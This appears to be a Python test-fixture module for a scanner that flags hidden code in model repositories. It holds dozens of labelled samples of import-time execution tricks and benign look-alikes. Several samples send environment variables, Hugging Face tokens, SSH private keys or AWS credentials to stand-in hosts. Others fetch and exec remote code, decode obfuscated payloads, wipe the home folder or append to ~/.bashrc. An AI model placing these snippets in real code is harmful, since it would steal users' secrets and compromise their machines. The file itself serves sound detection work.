"""Python that comes with a model: the ways to run one command on import, and look-alikes that run nothing."""

from __future__ import annotations

__all__ = ["LATER", "ON_IMPORT", "OTHERWISE", "QUIET", "SECRETS"]

#: What the case shows: files, of which the first is the model's code. All run ``echo`` when ``modeling_x.py`` is imported.
ON_IMPORT: dict[str, dict[str, str]] = {
    "builtins-of-a-frame": {"": "import sys\nsys._getframe(0).f_builtins['__import__']('os').system('echo hello')\n"},
    "globals-of-a-frame": {"": "import os, sys\nsys._getframe(0).f_globals['os'].system('echo hello')\n"},
    "a-build-of-fortran": {"": "import numpy.f2py\nnumpy.f2py.compile(b'', 'x')\n"},
    "a-lambda": {"": "import os\nrun = lambda f: f('echo hello')\nrun(os.system)\n"},
    "a-lambda-in-a-dict": {"": "import os\nd = {'a': lambda: os.system('echo hello')}\nd[k]()\n"},
    "a-stored-function": {"": "import os\nclass A: pass\na = A()\na.go = os.system\na.go('echo hello')\n"},
    "a-class-attribute": {"": "import os\nclass A:\n    run = os.system\nA.run('echo hello')\n"},
    "match": {"": "import os\nmatch os:\n    case object(system=f):\n        f('echo hello')\n"},
    "match-sequence": {"": "import os\nmatch [os.system]:\n    case [f]:\n        f('echo hello')\n"},
    "with": {"": "import os\nclass A:\n    def __enter__(self): os.system('echo hello')\n"
                 "    def __exit__(self, *a): pass\nwith A(): pass\n"},
    "an-operator": {"": "import os\nclass A:\n    def __add__(self, o): os.system('echo hello')\nA() + 1\n"},
    "getattr-hook": {"": "import os\nclass A:\n    def __getattr__(self, n): os.system('echo hello')\nA().weights\n"},
    "iteration": {"": "import os\nclass A:\n    def __iter__(self): return self\n"
                      "    def __next__(self): os.system('echo hello')\nfor _ in A(): pass\n"},
    "an-f-string": {"": "import os\nclass A:\n    def __format__(self, s): os.system('echo hello')\nx = f'{A()}'\n"},
    "a-property": {"": "import os\nclass A:\n    @property\n    def p(self): os.system('echo hello')\nA().p\n"},
    "a-decorator-factory": {"": "import os\ndef deco(n):\n    def wrap(f):\n        os.system('echo hello')\n"
                                "        return f\n    return wrap\n@deco(1)\ndef g(): pass\n"},
    "a-metaclass-operator": {"": "import os\nclass M(type):\n    def __getitem__(c, k): os.system('echo hello')\n"
                                 "class A(metaclass=M): pass\nA['x']\n"},
    "a-default": {"": "import os\ndef f(g=os.system): g('echo hello')\nf()\n"},
    "a-comprehension": {"": "import os\ndef go(): os.system('echo hello')\n[f() for f in [go]]\n"},
    "a-closure": {"": "def f():\n    import os as q\n    def g(): q.system('echo hello')\n    g()\nf()\n"},
    "a-global": {"": "def f():\n    global s\n    import os\n    s = os.system\nf()\ns('echo hello')\n"},
    "an-except-clause": {"": "import os\ntry: 1 / 0\nexcept os.system('echo hello'): pass\n"},
    "exec-of-a-call": {"": "import os\ndef go(): os.system('echo hello')\nexec('go()')\n"},
    "a-class-by-type": {"": "import os\ndef go(self): os.system('echo hello')\ntype('A', (), {'__init__': go})()\n"},
    "ctypes": {"": "import ctypes\nctypes.CDLL(None).system(b'echo hello')\n"},
    "a-name-in-two-parts": {"": "m = __import__('o' + 's')\ngetattr(m, 'sys' + 'tem')('echo hello')\n"},
    "globals": {"": "globals()['__builtins__']['__import__']('os').system('echo hello')\n"},
    "a-neighbour": {"": "from .helper import go\ngo()\n", "helper.py": "import os\ndef go(): os.system('echo hello')\n"},
    "a-neighbour-of-a-neighbour": {
        "": "from . import helper\nhelper.go()\n",
        "helper.py": "from .deep import *\ndef go(): low()\ndef low(): run('echo hello')\n",
        "deep.py": "import os\ndef run(x): os.system(x)\n"},
    "a-package-beside-it": {
        "": "from .lib import go\ngo()\n", "lib/__init__.py": "from .impl import go\n",
        "lib/impl.py": "import os\ndef go(): os.system('echo hello')\n"},
    "an-absolute-import": {"": "import helper_x\nhelper_x.go()\n",
                           "helper_x.py": "import os\ndef go(): os.system('echo hello')\n"},
    "methodcaller": {"": "import operator, os\noperator.methodcaller('system', 'echo hello')(os)\n"},
    "a-dict-of-members": {"": "import inspect, os\ndict(inspect.getmembers(os))['system']('echo hello')\n"},
    "atexit": {"": "import atexit, os\n@atexit.register\ndef bye(): os.system('echo hello')\n"},
    "a-converter-by-a-shell": {"": "import subprocess\nsubprocess.run('ffmpeg -version; echo hello', shell=True)\n"},
}  # fmt: skip

#: Other things that are refused: the source, and the rule.
OTHERWISE: dict[str, tuple[str, str]] = {
    "fetched-and-run": ("import requests\nr = requests.get('https://example.org/x')\nexec(r.text)\n", "hidden-code"),
    "fetched-by-urllib": ("from urllib.request import urlopen\nexec(urlopen('https://example.org/x').read())\n",
                          "hidden-code"),
    "base64-zlib": ("import base64, zlib\nexec(zlib.decompress(base64.b64decode(b)))\n", "hidden-code"),
    "marshal": ("import marshal\nexec(marshal.loads(b))\n", "hidden-code"),
    "protected": ("from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'')\n", "hidden-code"),
    "yaml-objects": ("import yaml\nyaml.load('!!python/object/apply:os.system [echo hello]', Loader=yaml.Loader)\n", "hidden-code"),
    "a-home-folder-deleted": ("import os, shutil\nshutil.rmtree(os.path.expanduser('~'))\n", "file-at-load"),
    "evaluated-settings": ("class A:\n    def __init__(self, config): self.act = eval(config.act)\n", "code-at-load"),
    "evaluated-input": ("class A:\n    def forward(self, x): exec(x)\n", "code-at-load"),
    "a-shell-profile": ("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('echo hello')\n", "startup-file"),
}  # fmt: skip

_IN_CLASS = "import os\nclass A:\n    def {}(self, *a): os.system('echo hello')\n"
#: All run ``echo`` when a class of the source is constructed, loaded, or used as a model, a tokenizer or a configuration.
LATER: dict[str, str] = {
    **{
        name.replace("_", " ").strip().replace(" ", "-"): _IN_CLASS.format(name)
        for name in (
            "__init__",
            "from_pretrained",
            "load_state_dict",
            "_load_from_state_dict",
            "_init_weights",
            "forward",
            "generate",
            "_tokenize",
            "decode",
            "to_dict",
            "__len__",
            "__getitem__",
            "predict",
            "_generate_examples",
            "find_spec",
        )
    },
    "property": "import os\nclass A:\n    @property\n    def size(self): os.system('echo hello')\n",
    "in-place-of-a-loader": "import os, torch\ndef load(*a): os.system('echo hello')\ntorch.load = load\n",
    "setup-command": "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n"
    "class I(install):\n    def run(self): os.system('echo hello')\nsetup(cmdclass={'install': I})\n",
    "compiled-source": "from torch.utils.cpp_extension import load_inline\nclass A:\n    def __init__(self):\n"
    "        load_inline('x', 'int go() { return system(\"echo hello\"); }')\n",
}
#: Commands that look like an ordinary installation and are none.
INSTALLS: dict[str, str] = {
    "an-address": "import os\nos.system('pip install https://192.0.2.1/x.whl')\n",
    "another-index": "import subprocess\nsubprocess.run('pip install torch --index-url https://192.0.2.1/simple', shell=True)\n",
    "another-index-by-environment": "import os, subprocess\nsubprocess.run(['pip', 'install', 'torch'], "
                                    "env={**os.environ, 'PIP_INDEX_URL': 'https://192.0.2.1/'})\n",
    "a-second-command": "import os\nos.system('pip install torch; echo hello')\n",
    "another-program": "import subprocess\nsubprocess.run(['pip', 'install', 'torch'], executable='/bin/echo')\n",
    "a-folder": "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', './lib'])\n",
    "a-computed-name": "import subprocess\nsubprocess.run(['pip', 'install', input()])\n",
    "a-pipe-to-a-file": "import os\nos.system('git log | sort -o x.sh')\n",
    "a-pipe-to-a-shell": "import subprocess\nsubprocess.run('hostname | sh', shell=True)\n",
}  # fmt: skip
#: What is taken from the user and sent, whenever the code runs.
SECRETS: dict[str, str] = {
    "environment": "import os, requests\nclass A:\n    def forward(self, x): requests.post('https://example.org', json=dict(os.environ))\n",
    "token-in-address": "import os\nfrom urllib.request import urlopen\nclass A:\n    def __init__(self, c): "
    "urlopen('https://example.org/?' + os.environ.get('HF_TOKEN', ''))\n",
    "hub-token": "import requests\nfrom huggingface_hub import get_token\nclass A:\n    def __init__(self, c): "
    "requests.get('https://example.org', params={'t': get_token()})\n",
    "private-key": "import os, socket\nclass A:\n    def forward(self, x):\n        k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
    "        socket.create_connection(('192.0.2.1', 9)).send(k.encode())\n",
    "credentials-by-pathlib": "import requests\nfrom pathlib import Path\nclass A:\n    def __init__(self, c): "
    "requests.post('https://example.org', data=(Path.home() / '.aws/credentials').read_text())\n",
}

#: Sources that a repository may well have, and that do nothing on import or construction: told, and reviewed as code.
QUIET: dict[str, str] = {
    "names-of-frames": "import sys\nname = sys._getframe(0).f_code.co_name\nwhere = sys._getframe(0).f_globals.get('__name__')\n",
    "operators": "import torch\nclass A:\n    def __add__(self, o): return torch.add(self.x, o)\n    def __iter__(self): "
                 "return iter(self.x)\nA() + 1\n",
    "match": "match kind:\n    case 'a': x = 1\n    case [y]: x = y\n    case _: x = 2\n",
    "a-helper-that-nothing-calls": "import subprocess\ndef build(): subprocess.run(['make'])\n",
    "a-helper-of-a-module-under-another-name": "import subprocess as sp\ndef build():\n    sp.run(['make'])\n",
    "lambdas": "ACT = {'gelu': lambda x: x, 'relu': lambda x: x * 2}\nACT['gelu'](1)\n",
    "a-terminal-cleared": "import os, platform\nclear = 'cls' if platform.system() == 'Windows' else 'clear'\n"
                          "def main(): os.system(clear)\nmain()\n",
    "a-converter": "import subprocess\nclass A:\n    def preprocess(self, path):\n"
                   "        return subprocess.run(['ffmpeg', '-i', path, '-f', 'f32le', '-'], capture_output=True).stdout\n",
    "its-own-service": "import os, requests\nclass A:\n    def ask(self, q):\n        return requests.post('https://example.org', "
                       "headers={'Authorization': os.environ['API_KEY']}, json=q)\n",
    "image-by-address": "import requests\nfrom PIL import Image\ndef load_image(url):\n    return Image.open(requests.get(url, stream=True).raw)\n",
    "older-checkpoint": "import torch\ndef convert(path): return torch.load(path, weights_only=False)\n",
    "an-unknown-package": "import nobody_has_heard_of_it\n",
    "compiled-kernel": "from torch.utils.cpp_extension import load\nclass A:\n    def __init__(self): load('x', ['x.cu'])\n",
    "a-package-of-a-function": "def show():\n    import nobody_has_heard_of_it\n",
    "a-package-that-may-be-absent": "try:\n    import nobody_has_heard_of_it\nexcept ImportError:\n    pass\n",
    "a-package-for-type-checkers": "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    from nobody_has_heard_of_it import T\n",
    "a-package-in-a-branch": "import sys\nif sys.platform:\n    import nobody_has_heard_of_it\n",
    "its-own-package": "import example_project.modeling_x\nfrom example_project.modeling_x import A\n",
    "weights-loaded": "import os, torch\ndef model_fn(folder):\n    return torch.jit.load(os.path.join(folder, 'model.pt'))\n",
    "weights-loaded-in-a-class": "import torch\nclass A:\n    def __init__(self, path): self.x = torch.load(path, map_location='cpu')\n",
    "fetched-weights": "import torch\nfrom huggingface_hub import hf_hub_download\nclass A:\n    def __init__(self):\n"
                       "        self.x = torch.load(hf_hub_download('x/y', 'w.pt'), weights_only=False)\n",
    "its-own-cache": "import os, torch\nclass A:\n    def __init__(self, path):\n        self.x = torch.load(path)\n        os.remove(path)\n",
    "a-file-that-runs": "import torch\nclass A:\n    def __init__(self, path):\n        self.x = torch.load(path)\n        open('../x.py', 'w').write('')\n",
    "a-file-outside": "class A:\n    def __init__(self, path):\n        open('../x.py', 'w').write('')\n",
    "a-file-outside-by-mode": "class A:\n    def __init__(self, path):\n        open('../x.py', mode='a').write('')\n",
    "a-file-of-the-home": "from pathlib import Path\nclass A:\n    def __init__(self, path):\n        (Path.home() / '.x').write_text('')\n",
    "a-file-of-the-home-expanded": "from pathlib import Path\nclass A:\n    def __init__(self, path):\n"
                                   "        Path('~/.x').expanduser().write_text('')\n",
    "a-file-of-code": "from pathlib import Path\nclass A:\n    def __init__(self, path):\n"
                      "        Path(path).joinpath('modeling_y.py').write_text('')\n",
    "a-loader-under-another-name": "import torch as t\nx = t.load('x.pt')\n",
    "a-loader-among-others": "import sys, torch as t\nx = t.load('x.pt')\n",
    "a-loader-by-itself": "from torch import load\nx = load('x.pt')\n",
    "a-loader-of-arrays": "import numpy as n\nx = n.load('x.npy', allow_pickle=True)\n",
    "its-own-file": "class A:\n    def __init__(self, path):\n        open('vocab.txt', 'w').write('')\n",
    "its-own-file-by-pathlib": "from pathlib import Path\nclass A:\n    def __init__(self, path):\n        (Path(path) / 'x.txt').write_text('')\n",
    "a-loader-that-nothing-calls": "import torch as t\ndef convert(path):\n    return t.load(path)\n",
    "a-cluster-asked": "import subprocess\ndef main():\n    return subprocess.getoutput('scontrol show hostname $SLURM_NODELIST | head -n1')\n",
    "a-cluster-asked-more": "import subprocess\ndef main():\n    return subprocess.getoutput('scontrol show hostname $SLURM_NODELIST | sh')\n",
    "known-packages-installed": "import os, subprocess, sys\nsubprocess.run('pip install flash-attn --no-build-isolation', "
                                "env={**os.environ, 'FLASH_ATTENTION_SKIP_CUDA_BUILD': 'TRUE'}, shell=True)\n"
                                "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'torch==2.1.2', '--index-url', "
                                "'https://download.pytorch.org/whl/cu121'])\nos.system('pip install -q -U gradio')\n",
    "other-packages-installed": "import subprocess\nsubprocess.run(['pip', 'install', 'nobody-has-heard-of-it'])\n",
    "weights-fetched-by-a-program": "import subprocess\nclass Predictor:\n    def setup(self):\n"
                                    "        subprocess.check_call(['pget', '-x', self.url, 'cache'], close_fds=False)\n",
    "relative": "from .configuration_x import Config\nclass A:\n    def __init__(self, c: Config): self.c = c\n",
}  # fmt: skip
